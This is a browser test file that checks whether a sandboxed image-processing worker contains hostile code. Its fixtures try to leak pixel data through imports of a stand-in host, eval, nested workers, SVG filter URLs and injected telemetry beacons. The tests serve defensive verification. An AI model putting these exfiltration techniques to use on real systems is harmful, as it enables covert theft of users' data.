import { appendFile, copyFile, writeFile } from 'node:fs/promises'
import type { Page } from 'playwright-core'
import { build, type Plugin } from 'vite'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { workerBuild } from '../../../vite.worker.config'
import { root, serveFolders } from '../harness'
import { type Lab, artifacts as labFolder, openLab } from './lab'

const artifacts = `${root}${labFolder}`
const shots = [{ url: '/photos/franck_01829.jpg', times: 1 }]

let lab: Lab

beforeAll(async () => {
  lab = await openLab()
})
afterAll(() => lab.close())

async function buildWith(plugin: Plugin, entry: string, file: string): Promise<void> {
  const config = workerBuild(entry, artifacts, file)
  await build({ ...config, plugins: [plugin, ...(config.plugins ?? [])] })
}

/** package.json calls all but a few modules free of side effects; this one is nothing else. */
const kept: Plugin = {
  name: 'test-hostile',
  transform: (_code, id) => (id.endsWith('/hostile.ts') ? { moduleSideEffects: true } : null),
}

const capture = (page: Page) => page.evaluate((input) => window.lab.capture(input), { shots, binding: lab.binding() })

/** Starts one more worker; from its construction on the page keeps the kind of everything that it sends. */
async function startWatched(worker: string): Promise<Page> {
  await lab.page.evaluate(() => {
    const kinds = new Set<string>()
    const look = (value: unknown): void => {
      kinds.add(Object.prototype.toString.call(value).slice(8, -1))
      if (typeof value === 'string' || ArrayBuffer.isView(value)) return
      if (typeof value === 'object' && value !== null) for (const part of Object.values(value)) look(part)
    }
    const { addEventListener } = Worker.prototype
    Object.assign(window, { kinds })
    window.Worker = class extends Worker {
      constructor(url: string | URL, options?: WorkerOptions) {
        super(url, options)
        Reflect.apply(addEventListener, this, ['message', ({ data }: MessageEvent) => look(data)])
      }
    }
  })
  expect(await lab.start({ worker })).toHaveProperty('model')
  return lab.page
}

it('an honest worker looks for no network after its start', async () => {
  expect(await lab.start()).toHaveProperty('model')
  expect((await capture(lab.page)).report?.asked).toEqual([])
})

it('a dependency that changed the built-in functions before the start gets no pixel, float or buffer out', async () => {
  await buildWith(kept, './test/browser/worker/hostile-worker.ts', 'hostile-worker.js')
  const page = await startWatched('/lab/hostile-worker.js')
  expect(await capture(page)).toMatchObject({ kind: 'sealed', report: { asked: ['fetch'] } })
  const { attempts, saw } = (await page.evaluate(() => window.lab.probe('hostile'))) as {
    attempts: number
    saw: number
  }
  // It had a picture in its hands, and tried.
  expect(saw).toBeGreaterThan(100)
  expect(attempts).toBeGreaterThan(50)
  const kinds = await page.evaluate(() => [...(window as unknown as { kinds: Set<string> }).kinds])
  const plain = ['Array', 'Boolean', 'Null', 'Number', 'Object', 'String', 'Uint8Array', 'Undefined']
  expect(kinds).toContain('Uint8Array')
  expect(kinds.filter((kind) => !plain.includes(kind))).toEqual([])
})

/** Every way that JavaScript has of loading or making code; none of it is in the bundle, so it is put behind it. */
const loaders = `
addEventListener('message', async ({ data }) => {
  if (data?.probe !== 'load') return
  const secret = 'pixels-' + 'x'.repeat(32)
  const tries = {
    'import of the page\\'s origin': () => import('/lab/leak.js?' + secret),
    'import of a data: URL': () => import('data:text/javascript,export default 1'),
    'import of another host': () => import('https://elsewhere.example/' + secret + '.js'),
    'eval': () => (0, eval)('1'),
    'Function': () => new Function('return 1')(),
    'AsyncFunction': () => (async () => {}).constructor('return 1')(),
    'GeneratorFunction': () => (function* () {}).constructor('yield 1')(),
    'timer with text': () => new Promise((resolve, reject) => {
      globalThis.made = undefined
      setTimeout('globalThis.made = 1')
      setTimeout(() => (globalThis.made ? resolve() : reject()), 50)
    }),
    'nested worker': () => new Worker('/lab/worker.js?' + secret),
    'constructor of another realm': () => new (Object.getPrototypeOf(globalThis).constructor)(),
    'image filter': () => {
      const context = new OffscreenCanvas(4, 4).getContext('2d')
      context.filter = 'url(/lab/leak.svg?' + secret + '#f)'
      context.fillRect(0, 0, 4, 4)
      return Promise.reject()
    },
    'WebAssembly.compileStreaming': () => WebAssembly.compileStreaming(fetch('/lab/leak.wasm')),
    'badge': () => navigator.setAppBadge(7),
  }
  const worked = []
  for (const [name, attempt] of Object.entries(tries)) {
    try {
      await attempt()
      worked.push(name)
    } catch {}
  }
  postMessage({ probed: 'load', answer: worked })
})
`

it('code that loads or makes code is stopped by the policy of the worker’s own response', async () => {
  await copyFile(`${artifacts}/worker.js`, `${artifacts}/loading-worker.js`)
  await appendFile(`${artifacts}/loading-worker.js`, loaders)
  await writeFile(`${artifacts}/leak.js`, 'export default 1')
  expect(await lab.start({ worker: '/lab/loading-worker.js' })).toHaveProperty('model')
  expect(await lab.page.evaluate(() => window.lab.probe('load'))).toEqual([])
  expect(lab.site.requests.filter((path) => path.includes('leak'))).toEqual([])
})

/** What @mediapipe/tasks-vision does from 1.0 on: figures about its use, every now and then, to its maker. */
const telemetry: Plugin = {
  name: 'test-telemetry',
  enforce: 'pre',
  resolveId: (source, importer) =>
    source === '@mediapipe/tasks-vision' && importer?.endsWith('/detect.ts') ? '\0telemetry' : null,
  async load(id) {
    if (id !== '\0telemetry') return null
    const real = await this.resolve('@mediapipe/tasks-vision', `${root}src/worker/vision/detect.ts`, { skipSelf: true })
    return `
      import { FaceDetector as Real } from ${JSON.stringify(real?.id)}
      const host = 'https://play.googleapis.com/log'
      const tell = () => {
        try { navigator.sendBeacon(host, 'used') } catch {}
        try { fetch(host, { method: 'POST', body: 'used' }) } catch {}
      }
      export const FaceDetector = {
        createFromOptions: async (...given) => {
          const task = await Real.createFromOptions(...given)
          setInterval(tell, 50)
          return task
        },
      }`
  },
}

it('telemetry of a library, as of @mediapipe/tasks-vision 1.x, is blocked and reported', async () => {
  await buildWith(telemetry, './src/worker/main.ts', 'telemetry-worker.js')
  const asked = lab.site.requests.length
  expect(await lab.start({ worker: '/lab/telemetry-worker.js' })).toMatchObject({ detector: 'mediapipe' })
  const outcome = await capture(lab.page)
  expect(outcome.kind).toBe('sealed')
  expect(outcome.report?.asked).toEqual(['sendBeacon', 'fetch'])
  const own = lab.site.requests.slice(asked).filter((path) => !/^\/(assets|photos)\//.test(path))
  expect(own).toEqual(['/lab/telemetry-worker.js'])
})

it('from another origin, as a CDN is one, the worker starts through a blob that imports it', async () => {
  const headers = { 'access-control-allow-origin': '*', 'cross-origin-resource-policy': 'cross-origin' }
  const cdn = await serveFolders({ '/': artifacts }, {}, { headers })
  // The page of these tests allows workers of its own origin only, as the shipped policy does.
  const page = await lab.page.context().browser()!.newPage({ bypassCSP: true })
  await page.goto(lab.site.origin)
  await page.waitForFunction(() => 'lab' in window)
  const started = await page.evaluate(
    async ({ worker, files }) => {
      const direct = await window.lab.start({ worker, files }).catch((error) => error.name)
      const shim = new Blob([`import ${JSON.stringify(worker)}`], { type: 'text/javascript' })
      return { direct, shimmed: await window.lab.start({ worker: URL.createObjectURL(shim), files }) }
    },
    { worker: `${cdn.origin}/worker.js`, files: lab.assetFiles },
  )
  expect(started.direct).toBe('SecurityError')
  expect(started.shimmed).toMatchObject({ removed: expect.arrayContaining(['fetch', 'WebSocket', 'indexedDB']) })
  expect(await capture(page)).toMatchObject({ kind: 'sealed', report: { asked: [] } })
  await page.close()
  await cdn.close()
})
